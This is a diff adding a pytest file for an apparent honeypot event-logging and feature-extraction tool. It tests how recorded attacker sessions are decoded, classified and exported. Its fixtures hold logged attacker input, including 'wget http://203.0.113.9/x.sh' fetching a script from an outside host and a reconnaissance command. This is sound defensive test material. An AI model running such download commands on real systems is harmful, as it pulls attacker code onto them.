@@ -0,0 +1,52 @@
+# tests/test_events.py
+import json
+
+from src import events
+from src.events import EventType, decode_all, text_of
+from src.export_sessions import session_info
+from src.feature_extractor import extract_features, FeatureState
+
+LEGACY = [
+    {"ts": 1.0, "text": "wget http://203.0.113.9/x.sh"},
+    {"ts": 2.0, "text": "[STRUCT_EVENT]=" + json.dumps({"type": "classification", "label": "exploit",
+                                                         "confidence": 0.9, "vector": "download", "ts": 2.0})},
+    {"ts": 2.1, "text": "[CLASS]=exploit|0.9|ENG=HIGH"},
+    {"ts": 3.0, "text": "[STRUCT_EVENT]=" + json.dumps({"type": "payload_saved", "size": 7, "ts": 3.0})},
+    {"ts": 3.1, "text": "[PAYLOAD_SAVED]={'file': 'p.bin', 'path': '/tmp/p.bin', 'sha256': 'ab', 'size': 7}"},
+    {"ts": 4.0, "text": "[ACTION]=HANDOFF_TO_HIGH_ENGAGEMENT"},
+    {"ts": 5.0, "text": "ATTACKER_CMD: uname -a"},
+    {"ts": 6.0, "text": "[ERROR]=PAYLOAD_SAVE_FAILED|disk full"},
+]
+
+
+def test_decode_legacy_drops_struct_duplicates():
+    typed = decode_all(LEGACY)
+    assert [e["type"] for e in typed] == ["input", "classification", "payload_saved", "action",
+                                         "shell_cmd", "error"]
+    assert typed[1]["label"] == "exploit" and typed[1]["engagement"] == "HIGH"
+    assert typed[2]["size"] == 7 and typed[2]["file"] == "p.bin"  # python-repr dict parsed
+    assert typed[5] == events.error("PAYLOAD_SAVE_FAILED", "disk full", ts=6.0)
+    # already-typed records pass through unchanged
+    assert decode_all(typed) == typed
+    assert text_of(typed[1]) == "[CLASS]=exploit|0.9|ENG=HIGH"
+
+
+def test_typed_and_legacy_sessions_export_the_same():
+    typed = [events.input_line("wget http://203.0.113.9/x.sh", ts=1.0),
+             events.classification("exploit", 0.9, "HIGH", "download", ts=2.1),
+             events.payload_saved({"file": "p.bin", "size": 7}, ts=3.1)]
+    a = session_info({"session_id": "S-1", "events": LEGACY})
+    b = session_info({"session_id": "S-1", "events": typed})
+    for key in ("attack_type", "success", "bytes_in", "transcript"):
+        assert a[key] == b[key]
+    assert b["attack_type"] == "exploit" and b["bytes_in"] == 7
+
+
+def test_feature_state_matches_extraction_of_the_stored_events():
+    typed = [events.input_line("wget http://203.0.113.9/x.sh"),
+             events.classification("exploit", 0.9, "HIGH", "download")]
+    state = FeatureState()
+    for ev in typed:
+        state.update(ev)
+    assert state.as_dict() == extract_features(typed) == {"wget": 1, "failed_login": 0, "num_commands": 2}
+    assert decode_all([{"ts": 1.0, "type": EventType.TEXT.value, "text": "x"}])[0]["text"] == "x"